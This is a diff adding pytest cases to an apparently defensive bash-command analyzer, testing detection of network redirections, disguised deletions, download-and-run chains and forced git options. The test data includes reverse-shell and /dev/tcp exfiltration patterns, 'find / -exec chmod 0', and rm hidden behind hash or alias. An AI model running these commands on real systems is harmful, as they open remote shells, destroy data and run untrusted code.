@@ -207,6 +207,10 @@ def test_pathological_text_ends_and_is_never_nothing(text):
         ("while :; do a & (wait); done", "while"),
         ("until false; do a & done", "until"),
         ("for ((;;)); do a & done", "for"),
+        ("one() { two & }; two() { one; }; one", "function"),
+        ("a() { b; }; b() { c; }; c() { a | a; }; a", "function"),
+        ("a() { b; }; b() { a; }; a", None),
+        ("a() { b & }; b() { ls; }; a", None),
         ("f() { f; }; f", None),
         ("f() { g | g; }", None),
         ("while true; do a & wait; done", None),
@@ -255,3 +259,121 @@ QUIET_MAKERS = [
 @pytest.mark.parametrize("text", QUIET_MAKERS)
 def test_making_and_reading_files_bothers_nobody(text):
     assert not evaluate(text).unresolved
+
+
+def network(text):
+    """Which commands send to the network and which read from it, by the shell's own redirections."""
+    found = [one for one in evaluate(text).commands if one["program"] == "/dev/tcp"]
+    return [one["argv"][1:] for one in found]
+
+
+@pytest.mark.parametrize(
+    ("text", "ways"),
+    [
+        ("ls > /dev/tcp/h/1", ["--sends"]),
+        ("ls &> /dev/udp/h/1", ["--sends"]),
+        ("exec 3>/dev/tcp/h/1; ls >&3", ["--sends"]),
+        ("exec 3>/dev/tcp/h/1; exec 4>&3-; ls >&4", ["--sends"]),
+        ("exec 3>/dev/tcp/h/1; exec 4>&3-; ls >&3", []),
+        ("exec 3>/dev/tcp/h/1; exec 3>&-; ls >&3", []),
+        ("exec 3>/dev/tcp/h/1; exec 3>log; ls >&3", []),
+        ("exec {a}>/dev/tcp/h/1; exec {b}>&$a; ls >&$b", ["--sends"]),
+        ("h=x; exec 3>/dev/tcp/$h/1; n=3; ls >&$n", ["--sends"]),
+        ('exec 3>/dev/tcp/h/1; ls >&"$UNKNOWN"', ["--sends"]),
+        ("exec 3>/dev/tcp/h/1; tee /dev/fd/3", ["--sends", "--gives"]),
+        ("exec >/dev/tcp/h/1\nls", ["--sends"]),
+        ("{ ls; } > /dev/tcp/h/1; ls", ["--sends"]),
+        ("(exec 3>/dev/tcp/h/1); ls >&3", []),
+        ("sh < /dev/tcp/h/1", ["--gives"]),
+        ("exec 3</dev/tcp/h/1; sh <&3", ["--gives"]),
+        ("sh >& /dev/tcp/h/1 0>&1", ["--gives", "--sends"]),
+        ("exec 3>/dev/tcp/h/1; ls", []),
+        ("exec 3>log; ls >&3 2>&1", []),
+    ],
+)
+def test_descriptors_are_followed_to_the_network(text, ways):
+    assert sorted(way for _, way in network(text)) == sorted(ways)
+
+
+def test_a_descriptor_is_no_word_of_the_command():
+    argv = [one["argv"] for one in evaluate("exec {a}>/dev/tcp/h/1; bash 0>&1 1>&2").commands]
+    assert ["exec"] in argv
+    assert ["bash"] in argv
+
+
+@pytest.mark.parametrize(
+    ("text", "runs"),
+    [
+        ("hash -p /bin/rm wipe; wipe x", True),
+        ("hash -p /bin/rm wipe; PATH=/bin; wipe x", False),
+        ("hash -p /bin/rm wipe; PATH=/bin wipe x", True),
+        ("PATH=/bin; hash -p /bin/rm wipe; wipe x", True),
+        ("hash -p /bin/rm wipe; (PATH=/bin); wipe x", True),
+        ("hash -p /bin/rm echo; echo x", False),
+        ("hash -p /bin/rm echo; enable -n echo; echo x", True),
+        ("hash -p /bin/rm echo; alias echo=rm; echo x", True),
+        ("export X=rm; env -i bash -c '\"$X\" x'", False),
+        ("export X=rm; env bash -c '\"$X\" x'", True),
+        ("env -i X=rm bash -c '\"$X\" x'", True),
+        ("export X=rm; env -i ls; $X x", True),
+    ],
+)
+def test_what_a_name_means_changes(text, runs):
+    assert ("rm" in programs(text)) is runs
+
+
+@pytest.mark.parametrize("text", ['curl -O "$A" && bash p.sh', 'curl -sO "$A"; ./p', 'wget "$A" && sh p.sh'])
+def test_a_download_of_an_unknown_name_may_be_what_runs(text):
+    assert "code" in [one["what"] for one in evaluate(text).unresolved]
+
+
+@pytest.mark.parametrize("text", ['curl -O "$A"', 'curl -o d.json "$A" && sh p.sh', 'curl "$A"; ./p', "wget https://x.org/a.tgz; sh p.sh"])  # fmt: skip
+def test_a_download_of_a_known_name_is_another_file(text):
+    assert not evaluate(text).unresolved
+
+
+@pytest.mark.parametrize(
+    ("text", "is_all"),
+    [
+        ("find / -exec chmod 0 {} +", True),
+        ("find -L / -xdev -type f -exec chmod 0 {} \\;", True),
+        ("find / | xargs chmod 0", True),
+        ("find / -name a -exec chmod 0 {} +", False),
+        ("find / -mtime +3 -exec chmod 0 {} +", False),
+        ("find / -exec ls {} +", False),
+    ],
+)
+def test_what_finds_all_is_the_folder_itself(text, is_all):
+    found = [one["words"] for one in evaluate(text).commands if "--recursive" in one["options"]]
+    assert found == ([["0", "/"]] if is_all else [])
+
+
+@pytest.mark.parametrize(
+    ("text", "options"),
+    [
+        ("git push --force --no-force", ["--no-force"]),
+        ("git push --no-force --force", ["--force"]),
+        ("git push -n --no-dry-run -f", ["--force", "--no-dry-run"]),
+        ("git push --no-force o +a", ["--force", "--no-force"]),
+        ("git commit --no-verify --verify", ["--verify"]),
+        ("git clean -f -e --dry-run", ["--force", "-e"]),
+        ("git switch --disc a", ["--discard-changes"]),
+        ("git push --forc", ["--forc"]),
+        ("rm --force --no-force", ["--force", "--no-force"]),
+    ],
+)
+def test_later_options_of_git_take_earlier_ones_back(text, options):
+    assert evaluate(text).commands[-1]["options"] == options
+
+
+@pytest.mark.parametrize(
+    ("text", "argv"),
+    [("git gc --p=now", ["git", "gc", "--prune=now"]), ("git prune --exp now", ["git", "prune", "--expire=now"])],
+)
+def test_shortened_options_of_git_are_spelled_out(text, argv):
+    assert argv in [one["argv"] for one in evaluate(text).commands]
+
+
+@pytest.mark.parametrize(("name", "runs"), [("status", False), ("st", True), ("Status", True)])
+def test_git_looks_for_no_alias_of_its_own_commands(name, runs):
+    assert ("rm" in programs(f"git -c 'alias.{name}=!rm x' {name}")) is runs
